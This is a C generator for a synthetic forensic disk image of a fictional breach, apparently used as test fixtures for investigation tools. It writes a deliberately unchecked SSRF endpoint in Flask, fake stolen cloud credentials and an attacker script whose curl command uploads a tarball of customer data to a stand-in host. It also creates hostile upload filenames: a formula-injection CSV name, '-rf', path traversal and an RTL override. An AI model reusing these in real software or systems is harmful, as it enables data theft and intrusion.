/* The data volume of app-01: the files' contents and the debugfs commands
 * that put them, with exact times, into an empty ext4 (make-disk). */
#include "samples/gen.h"

#include <stdio.h>

enum { ROOT = 0, APP = 1001, NGINX = 993 };

struct when {
    int64_t m, a, c, b;
};

struct disk {
    const char *root; /* NULL: only the list is wanted */
    struct buf commands;
    struct buf later; /* times of folders and links: set when all is there */
    struct buf truth; /* the list for tests */
    unsigned n;
    const char *view; /* of the truth: both, or disk = not after the journal */
    uint32_t ns;      /* of the last inode */
};

static void set_time(struct buf *b, const char *path, const char *field,
                     int64_t s, uint32_t ns)
{
    int32_t low = (int32_t)(uint32_t)(uint64_t)s;
    unsigned epoch = (unsigned)((s - low) >> 32) & 3;
    buf_printf(b, "sif \"%s\" %s @%d\n", path, field, low);
    buf_printf(b, "sif \"%s\" %s_extra %u\n", path, field, ns << 2 | epoch);
}

/* %HH for what would break a line of a list. */
static void put_name(struct buf *b, const char *path)
{
    for (const unsigned char *p = (const unsigned char *)path; *p; p++) {
        unsigned char c = *p == 1 ? '\n' : *p;
        if (c <= ' ' || c == '%' || c >= 0x7F)
            buf_printf(b, "%%%02X", c);
        else
            buf_putc(b, (char)c);
    }
}

struct inode {
    const char *path;
    unsigned mode, owner;
    size_t size;
    struct when w;
};

/* name: what debugfs finds it by; b: where its commands go. */
static void set_inode(struct gen *g, struct disk *d, struct buf *b,
                      const char *name, const struct inode *i)
{
    uint32_t ns = chance_below(&g->rng, 1000000000);
    d->ns = ns;
    buf_printf(b, "sif \"%s\" mode 0%o\n", name, i->mode);
    buf_printf(b, "sif \"%s\" uid %u\nsif \"%s\" gid %u\n", name, i->owner,
               name, i->owner);
    set_time(b, name, "mtime", i->w.m, ns);
    set_time(b, name, "atime", i->w.a, ns);
    set_time(b, name, "ctime", i->w.c, ns);
    set_time(b, name, "crtime", i->w.b, ns);
    put_name(&d->truth, i->path);
    buf_printf(&d->truth, "\t%o\t%u\t%zu\t%lld\t%lld\t%lld\t%lld\t%u\t%s\n",
               i->mode, i->owner, i->size, (long long)i->w.m, (long long)i->w.a,
               (long long)i->w.c, (long long)i->w.b, ns, d->view);
}

static struct when all_at(int64_t t)
{
    return (struct when){ t, t, t, t };
}

static struct when changed_at(int64_t born, int64_t t)
{
    return (struct when){ t, t, t, born };
}

/* debugfs makes things in its current folder. */
static const char *enter(struct disk *d, const char *path)
{
    const char *slash = strrchr(path, '/');
    int folder = (int)(slash - path);
    buf_printf(&d->commands, "cd %.*s\n", folder ? folder : 1,
               folder ? path : "/");
    return slash + 1;
}

static void folder(struct gen *g, struct disk *d, const char *path,
                   unsigned owner, struct when w)
{
    const char *name = enter(d, path);
    buf_printf(&d->commands, "mkdir %s\n", name);
    set_inode(g, d, &d->later, path,
              &(struct inode){ path, 040755, owner, 4096, w });
}

static void file(struct gen *g, struct disk *d, const char *path, unsigned mode,
                 unsigned owner, struct when w, struct str content)
{
    const char *stored = text(g, "%03u", d->n++);
    if (d->root)
        file_write(d->root, text(g, "files/%s", stored), content);
    const char *name = enter(d, path);
    buf_printf(&d->commands, "write files/%s \"%s\"\n", stored, name);
    set_inode(g, d, &d->commands, name,
              &(struct inode){ path, 0100000 | mode, owner, content.n, w });
}

static void text_file(struct gen *g, struct disk *d, const char *path,
                      unsigned mode, unsigned owner, struct when w,
                      const char *content)
{
    file(g, d, path, mode, owner, w, str_from(content));
}

static void link_to(struct gen *g, struct disk *d, const char *path,
                    const char *target, int64_t t)
{
    buf_printf(&d->commands, "cd /\nsymlink %s %s\n", path, target);
    struct when w = all_at(t);
    set_inode(g, d, &d->later, path,
              &(struct inode){ path, 0120777, ROOT, strlen(target), w });
}

/* ---- the application --------------------------------------------------------
 */

static const char app_py[] =
    "\"\"\"The report site.\"\"\"\n"
    "import logging\n"
    "import time\n"
    "from urllib.request import urlopen\n"
    "from flask import Flask, abort, render_template, request\n"
    "\n"
    "app = Flask(__name__)\n"
    "log = logging.getLogger(\"web.fetch\")\n"
    "\n"
    "\n"
    "@app.route(\"/fetch\")\n"
    "def fetch():\n"
    "    # preview of a feed; the address is not checked\n"
    "    url = request.args[\"url\"]\n"
    "    if not url.startswith((\"http://\", \"https://\")):\n"
    "        abort(400)\n"
    "    body = urlopen(url, timeout=5).read()\n"
    "    log.info(\"fetched url=%s bytes=%d client=%s\", url, len(body),\n"
    "             request.remote_addr)\n"
    "    keep(url, body)\n"
    "    return body\n";

/* What the metadata service answered: the same text as in the memory image. */
#define TOKEN_PART "EXAMPLEonlyTOKENofTHEsampleINCIDENT"
#define TOKEN_FOUR TOKEN_PART TOKEN_PART TOKEN_PART TOKEN_PART
static const char credentials[] =
    "{\n  \"Code\" : \"Success\",\n  \"LastUpdated\" : "
    "\"2026-03-11T02:00:00Z\",\n  \"Type\" : \"AWS-HMAC\",\n"
    "  \"AccessKeyId\" : \"" STOLEN_KEY "\",\n  \"SecretAccessKey\" : "
    "\"EXAMPLEEXAMPLEsecretKEYofSAMPLEincident0\",\n  \"Token\" : "
    "\"IQoJb3JpZ2luX2VjE" TOKEN_FOUR TOKEN_FOUR TOKEN_FOUR "==\",\n"
    "  \"Expiration\" : \"2026-03-11T08:14:32Z\"\n}";

static void site(struct gen *g, struct disk *d)
{
    int64_t built = at(9, 0, 52, 3), seen = at(11, 2, 2, 17);
    struct when w = { .m = built, .a = seen, .c = built + 1, .b = built };
    folder(g, d, "/www", APP, all_at(built));
    folder(g, d, "/www/static", APP, all_at(built));
    folder(g, d, "/www/templates", APP, all_at(built));
    text_file(g, d, "/www/app.py", 0644, APP, w, app_py);
    text_file(g, d, "/www/static/app.css", 0644, APP, w,
              "body { font-family: sans-serif; margin: 2em; }\n");
    text_file(g, d, "/www/templates/index.html", 0644, APP, w,
              "<!doctype html>\n<title>Reports</title>\n<h1>Reports</h1>\n");
    text_file(g, d, "/www/config.ini", 0640, APP, w,
              "[reports]\nbucket = " REPORTS "\nregion = " HOME
              "\nprefix = customers/2026/\n");
    link_to(g, d, "/www/current", "/data/www", built);
    link_to(g, d, "/www/logs",
            "/data/log/a-folder-whose-name-is-too-long-to-be-kept-in-the-"
            "inode-itself",
            built);
}

static void cache(struct gen *g, struct disk *d)
{
    int64_t t = at(11, 2, 14, 3);
    folder(g, d, "/cache", APP, changed_at(at(9, 0, 52, 3), t));
    folder(g, d, "/cache/fetch", APP, changed_at(at(9, 0, 52, 4), t));
    text_file(g, d, "/cache/fetch/4ad1c1f0", 0600, APP, all_at(t - 43),
              APP_ROLE);
    text_file(g, d, "/cache/fetch/9be27d35", 0600, APP, all_at(t), credentials);
}

static void customers(struct gen *g, struct disk *d)
{
    static const char *const branches[] = { "tokyo", "osaka", "nagoya",
                                            "fukuoka" };
    int64_t built = at(10, 18, 30, 0);
    folder(g, d, "/customers", APP, all_at(at(9, 1, 0, 0)));
    folder(g, d, "/customers/2026", APP, all_at(built));
    for (unsigned i = 0; i < 12; i++) {
        struct buf b = { 0 };
        buf_putz(&b, "id,name,branch,mail,balance\n");
        for (unsigned n = 40 + chance_below(&g->rng, 60); n; n--)
            buf_printf(&b, "%06u,Customer %u,%s,c%u@customer.example,%u\n",
                       chance_below(&g->rng, 1000000), n, branches[i / 3], n,
                       chance_below(&g->rng, 9000000));
        int64_t t = built + 7 * i;
        /* read by the attacker's program at 03:22 */
        struct when w = { .m = t, .a = at(11, 3, 22, 8) + i, .c = t, .b = t };
        file(g, d,
             text(g, "/customers/2026/%s-%03u.csv", branches[i / 3], 1 + i % 3),
             0640, APP, w, arena_copy(&g->arena, buf_str(&b)));
        buf_free(&b);
    }
}

static void logs(struct gen *g, struct disk *d)
{
    int64_t born = at(9, 0, 58, 0), end = at(11, 4, 11, 2);
    struct when w = changed_at(born, end);
    folder(g, d, "/log", ROOT, all_at(at(9, 0, 51, 0)));
    folder(g, d, "/log/nginx", NGINX, all_at(born));
    folder(g, d, "/log/app", APP, all_at(born));
    file(g, d, "/log/nginx/access.log", 0640, NGINX, w,
         web_lines(g, at(11, 0, 0, 0)));
    text_file(g, d, "/log/nginx/error.log", 0640, NGINX, w,
              "2026/03/11 02:05:08 [error] 2104#2104: *9120 upstream "
              "prematurely closed connection while reading response header "
              "from upstream, client: " ATTACKER ", server: app.corp.example, "
              "request: \"GET /fetch?url=http://127.0.0.1:22/ HTTP/1.1\"\n");
    file(g, d, "/log/app/app.log", 0640, APP, w, app_lines(g, at(11, 0, 0, 0)));
}

/* ---- odd things
 * ---------------------------------------------------------------- */

/* \001 stands for a line break, see make-disk. */
static void odd_names(struct gen *g, struct disk *d)
{
    static const char *const names[] = {
        "two\001lines.txt",
        "red \033[31malert\033[0m.txt",
        "caf\xE9-latin1.txt",
        "invoice-\xE2\x80\xAE"
        "fdp.exe",
        " blank at both ends ",
        "=cmd|calc.csv",
        "\xE9\xA1\xA7\xE5\xAE\xA2\xE5\x90\x8D\xE7\xB0\xBF.txt",
        "zero\xE2\x80\x8Bwidth.txt",
        "-rf",
        "%2e%2e%2fpasswd",
    };
    int64_t t = at(10, 7, 40, 0);
    folder(g, d, "/upload", APP, all_at(at(11, 3, 23, 40)));
    folder(g, d, "/upload/inbox", APP, all_at(t));
    for (size_t i = 0; i < sizeof names / sizeof *names; i++)
        text_file(g, d, text(g, "/upload/inbox/%s", names[i]), 0644, APP,
                  all_at(t + (int64_t)i * 11), "uploaded by a visitor\n");
    char longest[256];
    memset(longest, 'n', 255);
    longest[255] = 0;
    text_file(g, d, text(g, "/upload/inbox/%s", longest), 0644, APP,
              all_at(t + 300), "");
}

static void odd_times(struct gen *g, struct disk *d)
{
    int64_t t = at(9, 5, 0, 0);
    struct when w = all_at(t);
    folder(g, d, "/archive", APP, all_at(t));
    w.m = -(INT64_C(2208988800) - 2500000000); /* 1979: ordinary */
    text_file(g, d, "/archive/1979.txt", 0644, APP, w, "before the company\n");
    w.m = -1000000000; /* 1938-04-24T22:13:20Z */
    text_file(g, d, "/archive/before-1970.txt", 0644, APP, w, "earlier\n");
    w.m = -2147483648; /* the earliest that ext4 can say */
    text_file(g, d, "/archive/1901.txt", 0644, APP, w, "earliest\n");
    w.m = INT64_C(5680281600); /* 2150-01-01T00:00:00Z */
    text_file(g, d, "/archive/after-2106.txt", 0644, APP, w, "later\n");
    w.m = INT64_C(15032385535); /* 2446-05-10T22:38:55Z, the last one */
    text_file(g, d, "/archive/2446.txt", 0644, APP, w, "latest\n");
}

static void odd_files(struct gen *g, struct disk *d)
{
    int64_t t = at(9, 1, 20, 0);
    enum { PAGES = 8 << 20 };
    char *pages = arena_alloc(&g->arena, PAGES);
    if (!pages)
        die("out of memory");
    memcpy(pages, "PAGES 1\n", 8);
    memcpy(pages + (5 << 20), "PAGE 1280\n", 10);
    folder(g, d, "/db", APP, all_at(t));
    file(g, d, "/db/pages.db", 0600, APP, changed_at(t, at(11, 3, 59, 0)),
         (struct str){ pages, PAGES });
    buf_printf(&d->commands, "ea_set %s user.owner reports\n",
               enter(d, "/db/pages.db"));
    buf_printf(&d->commands, "mknod %s p\n", enter(d, "/db/wake"));
    struct when w = all_at(t);
    set_inode(g, d, &d->later, "/db/wake",
              &(struct inode){ "/db/wake", 010600, APP, 0, w });
    folder(g, d, "/bin", ROOT, all_at(t));
    text_file(g, d, "/bin/nightly.sh", 0755, ROOT, all_at(t),
              "#!/bin/sh\nexec aws s3 sync /data/customers s3://" REPORTS
              "/customers\n");
    /* two names for one file */
    buf_putz(&d->commands, "cd /\nln /bin/nightly.sh /bin/sync-reports\n"
                           "sif /bin/nightly.sh links_count 2\n");
    put_name(&d->truth, "/bin/sync-reports");
    buf_putz(&d->truth, "\tlink\t/bin/nightly.sh\n");
}

/* ---- what the attacker left and took away
 * ----------------------------------------- */

static void loot(struct gen *g, struct disk *d)
{
    int64_t t = at(11, 3, 21, 30);
    folder(g, d, "/upload/.t", ROOT, changed_at(t, at(11, 3, 23, 40)));
    text_file(g, d, "/upload/.t/k", 0600, ROOT, all_at(t + 5),
              "role " STOLEN_KEY "\nuser " BACKUP_KEY "\nhost 10.0.1.20 "
              "app-01\n");
    text_file(g, d, "/upload/.t/p.sh", 0700, ROOT, all_at(t + 9),
              "#!/bin/sh\ncd /data/customers/2026 || exit\n"
              "tar -czf /data/upload/.t/c.tgz .\n"
              "curl -s -T /data/upload/.t/c.tgz https://" ATTACKER "/u\n");
    struct buf b = { 0 };
    buf_put(&b, (struct str){ "\x1F\x8B\x08\0\0\0\0\0\0\3", 10 });
    for (unsigned i = 0; i < 9000; i++)
        buf_putc(&b, (char)chance_below(&g->rng, 256));
    file(g, d, "/upload/.t/c.tgz", 0600, ROOT, all_at(t + 55),
         arena_copy(&g->arena, buf_str(&b)));
    buf_free(&b);
    /* removed at 03:23:40 by commands of their own, see make-disk */
    if (d->root)
        file_write(d->root, "removed",
                   str_from("rm /upload/.t/c.tgz\nrm /upload/.t/p.sh\n"));
}

/* The implant's second queue. What becomes of it in the last seconds before
 * the snapshot is in the journal only, see make-disk. */
static void after_journal(struct disk *d, const char *path, unsigned mode,
                          unsigned size, int64_t m, int64_t c, int64_t born)
{
    buf_printf(&d->truth, "%s\t%o\t0\t%u\t%lld\t%lld\t%lld\t%lld\t%u\tlog\n",
               path, mode, size, (long long)m, (long long)born, (long long)c,
               (long long)born, d->ns);
}

static void queue(struct gen *g, struct disk *d)
{
    int64_t t = at(11, 3, 38, 10), cut = at(11, 4, 22, 41);
    d->view = "disk";
    folder(g, d, "/upload/.q", ROOT, all_at(t));
    after_journal(d, "/upload/.q", 040755, 4096, cut + 4, cut + 4, t);
    text_file(g, d, "/upload/.q/a.part", 0600, ROOT, all_at(t + 2),
              "customers/2026/tokyo-001.csv\n");
    after_journal(d, "/upload/.q/a.done", 0100600, 29, t + 2, cut, t + 2);
    text_file(g, d, "/upload/.q/list", 0600, ROOT, all_at(t + 5),
              "/data/customers/2026\n/data/db/pages.db\n");
    struct buf b = { 0 };
    for (int i = 0; i < 200; i++)
        buf_printf(&b, "try %d: no answer from there\n", i);
    file(g, d, "/upload/.q/log", 0600, ROOT, all_at(t + 9),
         arena_copy(&g->arena, buf_str(&b)));
    after_journal(d, "/upload/.q/log", 0100600, 0, cut + 2, cut + 2, t + 9);
    buf_free(&b);
}

void disk(struct gen *g, const char *root)
{
    struct disk d = { .root = root, .view = "both" };
    g->rng = chance_of("disk", 0);
    site(g, &d);
    cache(g, &d);
    customers(g, &d);
    logs(g, &d);
    odd_names(g, &d);
    odd_times(g, &d);
    odd_files(g, &d);
    loot(g, &d);
    struct when w = all_at(at(9, 0, 50, 12));
    set_inode(g, &d, &d.later, "/",
              &(struct inode){ "/", 040755, ROOT, 4096, w });
    set_inode(g, &d, &d.later, "/lost+found",
              &(struct inode){ "/lost+found", 040700, ROOT, 16384, w });
    queue(g, &d);
    buf_putz(&d.commands, "cd /\n");
    buf_put(&d.commands, buf_str(&d.later));
    buf_putz(&d.commands, "ssv mnt_count 3\nssv last_mounted /data\n");
    if (root)
        file_write(root, "commands", buf_str(&d.commands));
    fact(g, "disk.deleted", "/upload/.t/c.tgz /upload/.t/p.sh");
    fact(g, "disk.deleted_at", "2026-03-11T03:23:40Z");
    fact(g, "disk.journal_renamed", "/upload/.q/a.part /upload/.q/a.done");
    fact(g, "disk.journal_emptied", "/upload/.q/log");
    fact(g, "disk.journal_deleted", "/upload/.q/list");
    fact(g, "disk.fs_uuid", "0bb22cc3-3dd4-4ee5-8000-111122223333");
    buf_putz(&g->disk,
             "# path\tmode\tuid=gid\tsize\tm_s\ta_s\tc_s\tb_s\tns\tview"
             " (disk: before the journal is replayed, log: after, the ns of "
             "changed m and c is 0)\n");
    buf_put(&g->disk, buf_str(&d.truth));
    buf_free(&d.truth);
    buf_free(&d.commands);
    buf_free(&d.later);
}
